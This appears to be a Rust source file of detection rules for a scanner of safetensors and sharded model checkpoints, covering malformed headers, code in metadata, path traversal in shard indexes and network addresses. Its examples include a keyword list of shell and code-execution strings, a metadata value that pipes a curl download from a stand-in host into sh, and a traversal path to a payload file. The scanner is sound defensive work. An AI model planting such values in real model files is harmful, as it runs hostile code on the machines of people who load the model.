//! Rules of safetensors and sharded checkpoints (`SFT`, `NET`).

use probity_report::{Rule, Severity};

pub static SFT001: Rule = Rule {
    id: "SFT001",
    severity: Severity::Warning,
    title: "safetensors header is malformed or inconsistent",
    what: "The header length runs past the file, the header is not a JSON object, a tensor lacks its dtype, shape or offsets, a dtype is unknown, a size disagrees with its shape, offsets leave the data, overlap, or leave bytes no tensor describes.",
    why: "The reference loader refuses such files while lenient readers accept them, and undescribed bytes are where a second payload (a pickle, an archive) rides along in a file that looks like safe weights.",
    example: "A `model.safetensors` whose data section ends with 4 KiB no tensor points to.",
    references: &["CWE-20", "CWE-436"],
};

pub static SFT002: Rule = Rule {
    id: "SFT002",
    severity: Severity::Warning,
    title: "safetensors metadata holds code or shell text",
    what: "A `__metadata__` string contains Python code, shell commands or script markup (`import os`, `os.system`, `eval(`, `exec(`, `b64decode(`, `rm -rf`, `curl `, `wget `, `<script`, ...).",
    why: "safetensors never executes metadata, but tools that display it or pass it on (model cards, training scripts that `eval` a config string) can; weights have no reason to carry commands.",
    example: "`{\"__metadata__\": {\"setup\": \"import os; os.system('curl evil.sh | sh')\"}}`.",
    references: &["CWE-94"],
};

pub static SFT003: Rule = Rule {
    id: "SFT003",
    severity: Severity::Warning,
    title: "Shard index disagrees with its shards",
    what: "A sharded checkpoint's index (`model.safetensors.index.json`, `pytorch_model.bin.index.json`) maps a tensor to a shard that is missing or does not hold it, a shard holds tensors the index assigns elsewhere or not at all, or an index entry is not a file name.",
    why: "The loader trusts the index: a disagreement means the weights that load are not the weights that were reviewed or published, and a tensor hidden in an unexpected shard can replace a reviewed one.",
    example: "The index assigns `lm_head.weight` to `model-00001-of-00002.safetensors`, which does not contain it.",
    references: &["CWE-436"],
};

pub static SFT004: Rule = Rule {
    id: "SFT004",
    severity: Severity::Critical,
    title: "Shard index points outside the model folder",
    what: "A sharded checkpoint's index maps tensors to a shard path that is absolute, climbs out with `..`, starts at a home directory or drive letter, or is a URL.",
    why: "Transformers joins the model folder and the index value and opens the result: the index makes the loader read another file, and for `.bin` shards unpickle it, which runs code.",
    example: "`\"weight_map\": {\"lm_head.weight\": \"../../downloads/payload.bin\"}` in `pytorch_model.bin.index.json`.",
    references: &["CWE-22"],
};

pub static NET001: Rule = Rule {
    id: "NET001",
    severity: Severity::Info,
    title: "Network address in model metadata",
    what: "Model metadata names URLs (listed in the evidence).",
    why: "Provenance links are ordinary; callback, download or exfiltration addresses are not. Listed so that a reviewer sees where a model points.",
    example: "`__metadata__` with `\"callback_url\": \"http://203.0.113.5/collect\"`.",
    references: &[],
};

pub static RULES: &[&Rule] = &[&SFT001, &SFT002, &SFT003, &SFT004, &NET001];
